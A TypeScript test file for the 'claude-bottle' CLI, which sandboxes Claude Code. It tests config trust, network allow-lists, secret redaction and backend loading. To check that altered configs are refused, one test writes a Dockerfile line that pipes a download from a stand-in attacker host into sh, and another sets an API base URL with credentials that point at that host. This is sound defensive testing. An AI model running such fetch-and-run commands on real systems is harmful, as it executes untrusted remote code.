// The CLI in-process: argv in, exit code and output out. Third-party backends come from the
// fixture packages in test/fixtures/third-party-project/node_modules, installed (linked) into
// claude-bottle's config folder, which is where the CLI looks for them.
import { access, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { memoryIo } from "../test/memory-io.js";
import { main, version } from "./main.js";

const fixtureModules = fileURLToPath(
  new URL("../test/fixtures/third-party-project/node_modules", import.meta.url),
);
let project: string;
let configDir: string;
let record: string;

beforeEach(async () => {
  project = await mkdtemp(join(tmpdir(), "cb-cli-"));
  configDir = await mkdtemp(join(tmpdir(), "cb-cli-config-"));
  record = join(project, "record.json");
  await symlink(fixtureModules, join(configDir, "node_modules"));
});
afterEach(async () => {
  await rm(project, { recursive: true, force: true });
  await rm(configDir, { recursive: true, force: true });
});

async function cli(argv: string[], env: NodeJS.ProcessEnv = {}, cwd = project) {
  const { io, output } = memoryIo({
    cwd,
    env: {
      CLAUDE_BOTTLE_DATA_DIR: join(project, ".data"),
      CLAUDE_BOTTLE_CACHE_DIR: join(project, ".cache"),
      CLAUDE_BOTTLE_CONFIG_DIR: configDir,
      ...env,
    },
  });
  const code = await main(argv, io);
  return { code, ...output };
}

const configFile = () => join(project, "claude-bottle.config.json");
const writeConfig = (config: unknown) => writeFile(configFile(), JSON.stringify(config));

/** Write the project config and trust it, as its user would. */
async function configure(config: unknown) {
  await writeConfig(config);
  const trusted = await cli(["trust"]);
  expect(trusted).toMatchObject({ code: 0, stderr: "" });
}

describe("claude-bottle", () => {
  it("prints its version and help, exit 0", async () => {
    expect(await cli(["--version"])).toMatchObject({ code: 0, stdout: `${version}\n` });
    const help = await cli(["--help"]);
    expect(help.code).toBe(0);
    for (const command of ["run", "prepare", "doctor", "backends", "config", "trust", "ps", "stop"]) {
      expect(help.stdout).toMatch(new RegExp(`^  ${command} `, "m"));
    }
    const runHelp = await cli(["run", "--help"]);
    expect(runHelp.stdout).toContain("arguments after -- go to Claude Code");
  });

  it("exits 2 with one clear line for usage errors", async () => {
    const unknown = await cli(["bogus"]);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toContain("unknown command 'bogus'");

    const claudeFlag = await cli(["run", "-p", "hi"]);
    expect(claudeFlag.code).toBe(2);
    expect(claudeFlag.stderr).toContain("unknown option '-p'");
    expect(claudeFlag.stderr).toContain('claude-bottle run -- -p "fix the tests"');

    const stop = await cli(["stop"]);
    expect(stop.code).toBe(2);
    expect(stop.stderr).toBe(
      "claude-bottle: stop needs bottle names or --all; see `claude-bottle ps` for names\n",
    );
  });

  it("exits 2 for an invalid config file, one line per problem with its place", async () => {
    await writeConfig({ network: { mode: "wide" }, resources: { cpus: -1 } });
    const { code, stderr, stdout } = await cli(["run", "--dry-run"]);
    expect(code).toBe(2);
    expect(stdout).toBe("");
    const file = join(project, "claude-bottle.config.json");
    const lines = stderr.trim().split("\n");
    expect(lines).toHaveLength(2);
    expect(lines).toEqual(
      expect.arrayContaining([
        expect.stringMatching(new RegExp(`^claude-bottle: ${file}: network.mode: .*"allowlist"`)),
        expect.stringMatching(new RegExp(`^claude-bottle: ${file}: resources.cpus: .*>0`)),
      ]),
    );
    const validate = await cli(["config", "validate", "claude-bottle.config.json"]);
    expect(validate.code).toBe(2);
  });

  it("refuses a malformed cache prune", async () => {
    const both = await cli(["cache", "prune", "--all", "--older-than", "7d"]);
    expect(both.code).toBe(2);
    expect(both.stderr).toBe("claude-bottle: cache prune takes --all or --older-than, not both\n");
    const bad = await cli(["cache", "prune", "--older-than", "a while"]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toBe(
      'claude-bottle: --older-than: "a while" is not a duration; use a number with a unit, e.g. 30m, 12h, 7d\n',
    );
    const empty = await cli(["cache", "ls"]);
    expect(empty).toMatchObject({ code: 0, stdout: "" });
    expect(empty.stderr).toContain("the cache is empty");
  });

  it("validates a good config file", async () => {
    await configure({ backend: "docker", network: { allow: ["*.npmjs.org"] } });
    const { code, stdout } = await cli(["config", "validate"]);
    expect(code).toBe(0);
    expect(stdout).toContain("claude-bottle.config.json: valid");
  });

  it("rejects unknown options in a built-in backend's section", async () => {
    await configure({ backends: { docker: { colour: "blue" } } });
    const { code, stderr } = await cli(["config", "validate"]);
    expect(code).toBe(2);
    expect(stderr).toContain("backends.docker");
  });

  it("refuses backends.smolmachines.registryImage, which is no longer used, saying to remove it", async () => {
    await configure({ backends: { smolmachines: { registryImage: "registry:2" } } });
    const { code, stderr } = await cli(["config", "validate"]);
    expect(code).toBe(2);
    expect(stderr).toBe(
      "claude-bottle: backends.smolmachines.registryImage: no longer used: claude-bottle now serves the image to smolvm itself, without a registry container; remove this key\n",
    );
  });

  it("runs a third-party backend named in config, passing its options and Claude Code's arguments", async () => {
    await configure({
      backend: "claude-bottle-backend-example",
      backends: { "claude-bottle-backend-example": { recordTo: record, exitCode: 7 } },
    });
    const { code, stdout, stderr } = await cli(["run", "--", "-p", "hello", "--output-format", "json"], {
      ANTHROPIC_API_KEY: "sk-test-secret",
      CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: "1",
    });
    expect(code).toBe(7);
    expect(stdout).toBe("");
    expect(stderr).toContain("claude-bottle: example step: done in");
    const seen = JSON.parse(await readFile(record, "utf8"));
    expect(seen.options.exitCode).toBe(7);
    expect(seen.prepared).toEqual({ imageRef: "claude-bottle:latest" });
    expect(seen.spec.command).toEqual([
      "claude",
      "--dangerously-skip-permissions",
      "-p",
      "hello",
      "--output-format",
      "json",
    ]);
    expect(seen.spec.workspace).toBe(project);
    expect(seen.spec.secrets).toEqual({ ANTHROPIC_API_KEY: "sk-test-secret" });
    expect(seen.spec.env).toEqual({ CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: "1" });
    expect(seen.spec.home).toMatch(
      new RegExp(`^${join(project, ".data", "projects")}/cb-cli-[^/]+-[0-9a-f]{8}/home$`),
    );
    expect(seen.spec.name).toMatch(/^claude-bottle-cb-cli-[a-z0-9]+-[0-9a-f]{6}$/);
  });

  it("warns about credential passthrough, and lists hosts the bottle was refused", async () => {
    await configure({
      backend: "claude-bottle-backend-example",
      credentials: { passthrough: true },
      network: { presets: ["npm"] },
      backends: {
        "claude-bottle-backend-example": {
          recordTo: record,
          deniedHosts: ["evil.example", "10.1.2.3"],
          warnings: ["the host firewall could not be set up"],
        },
      },
    });
    const { code, stderr } = await cli(["run", "--allow", "pypi.org"]);
    expect(code).toBe(0);
    const seen = JSON.parse(await readFile(record, "utf8"));
    expect(seen.spec.passthroughCredentials).toBe(true);
    expect(seen.spec.network).toEqual({
      mode: "allowlist",
      allow: ["pypi.org"],
      presets: ["npm"],
      hostPorts: [],
      publish: [],
    });
    expect(seen.spec.deniedLogPath).toMatch(/\/logs\/claude-bottle-cb-cli-[^/]+\.denied\.jsonl$/);
    expect(stderr).toContain("claude-bottle: warning: credentials.passthrough is on");
    expect(stderr).toContain("claude-bottle: warning: the host firewall could not be set up\n");
    expect(stderr).toContain(
      `claude-bottle: blocked evil.example, 10.1.2.3 (not on the allow-list; allow with --allow HOST or network.allow; log: ${seen.spec.deniedLogPath})`,
    );
  });

  it("rejects a malformed --allow entry, naming the flag", async () => {
    const { code, stderr } = await cli(["run", "--dry-run", "--allow", "http://x.com/"]);
    expect(code).toBe(2);
    expect(stderr).toBe(
      "claude-bottle: command line: --allow: expected a host name, a *.domain wildcard, an IP address or a CIDR block\n",
    );
  });

  it("shows allowed host ports and published ports with --dry-run, and refuses two on one host port", async () => {
    const { code, stdout } = await cli([
      "run",
      "--dry-run",
      "--allow-host-port",
      "5432",
      "--publish",
      "3000",
      "--publish",
      "8000:18000",
    ]);
    expect(code).toBe(0);
    const shown = JSON.parse(stdout);
    expect(shown.spec.network.hostPorts).toEqual([5432]);
    expect(shown.spec.network.publish).toEqual([
      { port: 3000, hostPort: 3000 },
      { port: 8000, hostPort: 18000 },
    ]);
    const twice = await cli(["run", "--dry-run", "--publish", "3000:9000", "--publish", "4000:9000"]);
    expect(twice.code).toBe(2);
    expect(twice.stderr).toContain("network.publish: two published ports use the same host port");
  });

  it("refuses port options a backend does not claim, before it runs anything", async () => {
    await configure({
      backend: "claude-bottle-backend-example",
      backends: { "claude-bottle-backend-example": { recordTo: record, exitCode: 7 } },
    });
    for (const [flag, what] of [
      ["--publish", "--publish (network.publish)"],
      ["--allow-host-port", "--allow-host-port (network.hostPorts)"],
    ] as const) {
      const { code, stderr } = await cli(["run", flag, "3000", "--", "-p", "hi"], {
        ANTHROPIC_API_KEY: "sk-x",
      });
      expect(code).toBe(2);
      expect(stderr).toContain(`claude-bottle: ${what}: the example backend cannot do this`);
    }
    await expect(readFile(record, "utf8")).rejects.toThrow();
  });

  it("refuses a run whose credential or allow-list the backend cannot keep, and warns about lesser gaps", async () => {
    await configure({
      backend: "claude-bottle-backend-example",
      backends: { "claude-bottle-backend-example": { recordTo: record, capabilities: { egress: true } } },
    });
    const keyInside = await cli(["run", "--", "-p", "hi"], { ANTHROPIC_API_KEY: "sk-never-printed" });
    expect(keyInside.code).toBe(2);
    expect(keyInside.stderr).toBe(
      "claude-bottle: the example backend cannot keep your credential outside the bottle, where the agent could read it and send it anywhere; set credentials.passthrough: true to hand it in anyway, or use a backend that keeps it outside (docker, podman)\n",
    );
    await expect(readFile(record, "utf8")).rejects.toThrow();

    await configure({
      backend: "claude-bottle-backend-example",
      backends: {
        "claude-bottle-backend-example": { recordTo: record, capabilities: { credentials: true } },
      },
    });
    const noAllowList = await cli(["run", "--", "-p", "hi"], { ANTHROPIC_API_KEY: "sk-x" });
    expect(noAllowList.code).toBe(2);
    expect(noAllowList.stderr).toContain("the example backend cannot hold the network allow-list");
    await expect(readFile(record, "utf8")).rejects.toThrow();

    // Limits left at their defaults are dropped quietly; a limit the user set is warned about.
    await configure({
      backend: "claude-bottle-backend-example",
      resources: { pids: 50 },
      backends: {
        "claude-bottle-backend-example": {
          recordTo: record,
          capabilities: { credentials: true, egress: true },
        },
      },
    });
    const gaps = await cli(["run", "--", "-p", "hi"], { ANTHROPIC_API_KEY: "sk-x" });
    expect(gaps.code).toBe(0);
    expect(gaps.stderr).toContain(
      "claude-bottle: warning: the example backend cannot apply resources.pids here; the bottle runs without that limit\n",
    );
    expect(gaps.stderr).toContain(
      "claude-bottle: warning: the example backend refuses what is not on the allow-list but cannot say what it refused",
    );
    const seen = JSON.parse(await readFile(record, "utf8"));
    expect(seen.spec.resources).toEqual({ pids: 50 });
  });

  it("validates a third-party backend's options with its own schema", async () => {
    await configure({
      backend: "claude-bottle-backend-example",
      backends: { "claude-bottle-backend-example": { exitCode: "seven" } },
    });
    const { code, stderr } = await cli(["run"]);
    expect(code).toBe(2);
    expect(stderr).toBe(
      "claude-bottle: backends.claude-bottle-backend-example.exitCode: expected an integer\n",
    );
  });

  it.each([
    [
      "not-installed-backend",
      /backend "not-installed-backend" \(from flag --backend\) is neither built in nor an installed package; install it/,
    ],
    ["Not A Name!", /unknown backend "Not A Name!" \(from flag --backend\); use docker or smolmachines/],
    [
      "@acme/bottle-not-a-factory",
      /the package "@acme\/bottle-not-a-factory" does not default-export a backend factory/,
    ],
    ["claude-bottle-backend-wrong-shape", /returned something that is not a backend/],
    ["claude-bottle-backend-broken", /failed to load: this package is broken/],
  ])("explains a bad backend %j and exits 2", async (name, message) => {
    const { code, stderr } = await cli(["run", "--backend", name]);
    expect(code).toBe(2);
    expect(stderr).toMatch(message);
    expect(stderr.trim().split("\n")).toHaveLength(1);
  });

  it("shows the run with --dry-run and never the secret", async () => {
    const { code, stdout } = await cli(["run", "--dry-run", "--allow", "pypi.org", "--", "-p", "hi"], {
      ANTHROPIC_API_KEY: "sk-ant-very-secret",
      CLAUDE_CODE_OAUTH_TOKEN: "oauth-very-secret",
    });
    expect(code).toBe(0);
    expect(stdout).not.toContain("very-secret");
    const shown = JSON.parse(stdout);
    expect(shown.backend).toBe("docker");
    expect(shown.spec.secrets).toEqual({
      ANTHROPIC_API_KEY: "<redacted>",
      CLAUDE_CODE_OAUTH_TOKEN: "<redacted>",
    });
    expect(shown.spec.network.allow).toEqual(["pypi.org"]);
  });

  it("shows where each setting came from", async () => {
    await configure({ backend: "smolmachines" });
    const { code, stdout } = await cli(["config", "--json"], {
      CLAUDE_BOTTLE_BASE_IMAGE: "local/node:24",
      ANTHROPIC_BASE_URL: "https://user:pw@gw.example/",
    });
    expect(code).toBe(0);
    const { config, sources } = JSON.parse(stdout);
    expect(config.backend).toBe("smolmachines");
    expect(sources.backend).toBe(join(project, "claude-bottle.config.json"));
    expect(sources["image.base"]).toBe("env CLAUDE_BOTTLE_BASE_IMAGE");
    expect(config.anthropic.baseUrl).toBe("https://***@gw.example/");
    expect(stdout).not.toContain("pw@");
  });

  it("lists built-in and configured backends", async () => {
    await configure({ backend: "claude-bottle-backend-example" });
    const { code, stdout } = await cli(["backends", "--json"]);
    expect(code).toBe(0);
    expect(JSON.parse(stdout)).toEqual([
      { name: "docker", kind: "builtin", selected: false },
      { name: "smolmachines", kind: "builtin", selected: false },
      { name: "podman", kind: "builtin", selected: false },
      {
        name: "claude-bottle-backend-example",
        kind: "package",
        selected: true,
        source: join(project, "claude-bottle.config.json"),
      },
    ]);
  });

  it("doctor reports each backend and exits by the selected one", async () => {
    await configure({ backend: "claude-bottle-backend-example" });
    const { code, stdout } = await cli(["doctor", "--json"], { PATH: "/nonexistent" });
    expect(code).toBe(0);
    const { checks } = JSON.parse(stdout);
    expect(checks.map((c: { backend: string }) => c.backend)).toEqual([
      "docker",
      "smolmachines",
      "podman",
      "claude-bottle-backend-example",
    ]);
    expect(checks[3]).toMatchObject({ available: true, version: "example 1.0.0", selected: true });
    // Neither smolvm nor podman is on this PATH (and as root, Podman is not rootless anyway).
    for (const unavailable of [checks[1], checks[2]]) {
      expect(unavailable.available).toBe(false);
      expect(unavailable.fix).toBeTruthy();
    }
  });
});

describe("claude-bottle trust", () => {
  const refusal = (what: string) =>
    `claude-bottle: ${configFile()}: ${what}; review it (the bottle can write files in your project), then run \`claude-bottle trust\` to use it\n`;

  it("refuses a project config nobody trusted, with one line saying how to trust it", async () => {
    await writeConfig({
      anthropic: { baseUrl: "https://u:pw@attacker.example/" },
      network: { mode: "open" },
    });
    for (const command of [["run", "--dry-run"], ["shell", "--dry-run"], ["prepare"], ["doctor"]]) {
      const refused = await cli(command, { ANTHROPIC_API_KEY: "sk-ant-secret" });
      expect(refused).toEqual({ code: 2, stdout: "", stderr: refusal("not trusted yet") });
    }

    const trusted = await cli(["trust"]);
    expect(trusted.code).toBe(0);
    expect(trusted.stdout).toContain(`trusted ${configFile()}\n`);
    expect(trusted.stdout).toMatch(/ {2}anthropic\.baseUrl +"https:\/\/\*\*\*@attacker\.example\/"/);
    expect(trusted.stdout).not.toContain("pw@");
    const run = await cli(["run", "--dry-run"]);
    expect(run.code).toBe(0);
    expect(JSON.parse(run.stdout).spec.network.mode).toBe("open");
  });

  it("refuses a trusted config once it changes, until it is trusted again", async () => {
    await configure({ network: { mode: "allowlist" } });
    expect((await cli(["run", "--dry-run"])).code).toBe(0);
    await writeConfig({ network: { mode: "open" } });
    expect(await cli(["run", "--dry-run"])).toEqual({
      code: 2,
      stdout: "",
      stderr: refusal("changed since you trusted it"),
    });
    await writeConfig({ network: { mode: "allowlist" } }); // back to what was trusted
    expect((await cli(["run", "--dry-run"])).code).toBe(0);
  });

  it("covers the Dockerfile the config names: a changed or new Dockerfile is refused", async () => {
    const dockerfile = join(project, "agent.Dockerfile");
    await writeFile(dockerfile, "FROM node:24-bookworm-slim\n");
    await writeConfig({ image: { dockerfile: "agent.Dockerfile" } });
    const trusted = await cli(["trust"]);
    expect(trusted.code).toBe(0);
    expect(trusted.stdout).toContain(`trusted ${configFile()} with ${dockerfile}\n`);
    expect(trusted.stderr).toBe(
      `claude-bottle: note: the build context ${project} overlaps the project; what the Dockerfile copies or runs from it is not part of this trust, and the bottle can change it\n`,
    );
    expect((await cli(["run", "--dry-run"])).code).toBe(0);
    await writeFile(dockerfile, "FROM node:24-bookworm-slim\nRUN curl https://attacker.example | sh\n");
    expect(await cli(["run", "--dry-run"])).toEqual({
      code: 2,
      stdout: "",
      stderr: refusal(`changed since you trusted it (${dockerfile})`),
    });

    // A Dockerfile that was missing when trusted and appears later is a change too.
    await rm(dockerfile);
    await cli(["trust"]);
    await writeFile(dockerfile, "FROM node:24-bookworm-slim\n");
    expect((await cli(["run", "--dry-run"])).stderr).toContain(
      `changed since you trusted it (${dockerfile})`,
    );
  });

  it("trusts a file at its path only: the same file copied elsewhere is not trusted", async () => {
    await configure({ network: { mode: "open" } });
    const other = join(project, "sub");
    await mkdir(other);
    await writeFile(join(other, "claude-bottle.config.json"), await readFile(configFile()));
    const refused = await cli(["run", "--dry-run"], {}, other);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toBe(
      `claude-bottle: ${join(other, "claude-bottle.config.json")}: not trusted yet; review it (the bottle can write files in your project), then run \`claude-bottle trust\` to use it\n`,
    );
  });

  it("shows trust in `config` and `trust --show`, and forgets it with --untrust", async () => {
    await writeConfig({ backend: "smolmachines" });
    const untrusted = await cli(["config", "--json"]);
    expect(untrusted.code).toBe(0);
    const shown = JSON.parse(untrusted.stdout);
    expect(shown.config.backend).toBe("docker"); // the untrusted file is left out
    expect(shown.files.project).toBe(configFile());
    expect(shown.projectTrust).toEqual({ state: "new" });
    expect((await cli(["config"])).stdout).toContain(
      "project config: NOT APPLIED, not trusted yet; review it (the bottle can write files in your project), then run `claude-bottle trust` to use it\n",
    );

    await cli(["trust"]);
    expect(JSON.parse((await cli(["config", "--json"])).stdout)).toMatchObject({
      config: { backend: "smolmachines" },
      projectTrust: { state: "trusted" },
    });
    const list = await cli(["trust", "--show"]);
    expect(list.code).toBe(0);
    expect(list.stdout).toMatch(new RegExp(`^${configFile()} +trusted +\\d{4}-`, "m"));

    await writeConfig({ backend: "docker" });
    expect((await cli(["trust", "--show"])).stdout).toMatch(
      new RegExp(`^${configFile()} +changed since you trusted it `, "m"),
    );
    await rm(configFile());
    expect((await cli(["trust", "--show"])).stdout).toMatch(new RegExp(`^${configFile()} +deleted `, "m"));

    const forget = await cli(["trust", "--untrust", configFile()]);
    expect(forget).toEqual({
      code: 0,
      stdout: "",
      stderr: `claude-bottle: ${configFile()}: no longer trusted\n`,
    });
    expect((await cli(["trust", "--show"])).stderr).toContain("no project config is trusted");
  });

  it("says when there is nothing to trust, exit 2", async () => {
    expect(await cli(["trust"])).toEqual({
      code: 2,
      stdout: "",
      stderr: `claude-bottle: no claude-bottle.config.json in ${project} or above; there is nothing to trust here; pass the file to trust, or run in the project\n`,
    });
  });

  it("refuses to bottle a folder that holds claude-bottle's own config folder", async () => {
    const inside = join(project, ".config", "claude-bottle");
    const refused = await cli(["run", "--dry-run"], { CLAUDE_BOTTLE_CONFIG_DIR: inside });
    expect(refused.code).toBe(2);
    expect(refused.stderr).toBe(
      `claude-bottle: ${project}: holds claude-bottle's config folder ${inside}, which the bottle could then rewrite; run claude-bottle in a project folder (or set CLAUDE_BOTTLE_CONFIG_DIR elsewhere)\n`,
    );
  });

  it("never loads a backend package from the workspace, even one the user config names", async () => {
    // What a bottle can do: plant a package in the project's node_modules that runs on import.
    const planted = join(project, "node_modules", "claude-bottle-backend-planted");
    const marker = join(project, "planted-backend-ran");
    await mkdir(planted, { recursive: true });
    await writeFile(
      join(planted, "package.json"),
      JSON.stringify({ name: "claude-bottle-backend-planted", type: "module", main: "index.js" }),
    );
    await writeFile(
      join(planted, "index.js"),
      `import { writeFileSync } from "node:fs";\nwriteFileSync(${JSON.stringify(marker)}, "ran");\nexport default () => ({});\n`,
    );
    await writeFile(
      join(configDir, "config.json"),
      JSON.stringify({ backend: "claude-bottle-backend-planted" }),
    );
    const refused = await cli(["run"]);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(
      /^claude-bottle: backend "claude-bottle-backend-planted" \(from .*config\.json\) is neither built in nor an installed package; install it beside claude-bottle/,
    );
    await expect(access(marker)).rejects.toThrow();
  });

  it("refuses a backend that resolves into the workspace, through a link", async () => {
    // A backend's developer linked their checkout into claude-bottle's config folder and then
    // bottled that checkout: the bottle could rewrite the code the host would run.
    const checkout = join(project, "my-backend");
    await mkdir(checkout);
    await writeFile(join(checkout, "package.json"), JSON.stringify({ name: "my-backend", main: "index.js" }));
    await writeFile(join(checkout, "index.js"), "export default () => ({});\n");
    const linkedConfig = await mkdtemp(join(tmpdir(), "cb-cli-config-linked-"));
    try {
      await mkdir(join(linkedConfig, "node_modules"));
      await symlink(checkout, join(linkedConfig, "node_modules", "my-backend"));
      const refused = await cli(["run", "--backend", "my-backend"], {
        CLAUDE_BOTTLE_CONFIG_DIR: linkedConfig,
      });
      expect(refused.code).toBe(2);
      expect(refused.stderr).toBe(
        `claude-bottle: backend "my-backend" (from flag --backend) resolves to ${join(checkout, "index.js")}, inside the workspace the bottle can write; claude-bottle does not load it; install claude-bottle and the backend outside the project (npm install -g claude-bottle my-backend)\n`,
      );
    } finally {
      await rm(linkedConfig, { recursive: true, force: true });
    }
  });

  it("warns when claude-bottle itself is installed inside the workspace it bottles", async () => {
    // In these tests claude-bottle's code is this checkout's packages/cli: bottle that folder.
    const self = fileURLToPath(new URL("..", import.meta.url));
    const { code, stderr } = await cli(["run", "--dry-run"], {}, self);
    expect(code).toBe(0);
    expect(stderr).toMatch(
      /^claude-bottle: warning: claude-bottle runs from .*, inside the workspace the bottle can change; install it outside the project \(npm install -g claude-bottle\)\n$/,
    );
    expect((await cli(["run", "--dry-run"])).stderr).toBe("");
  });
});
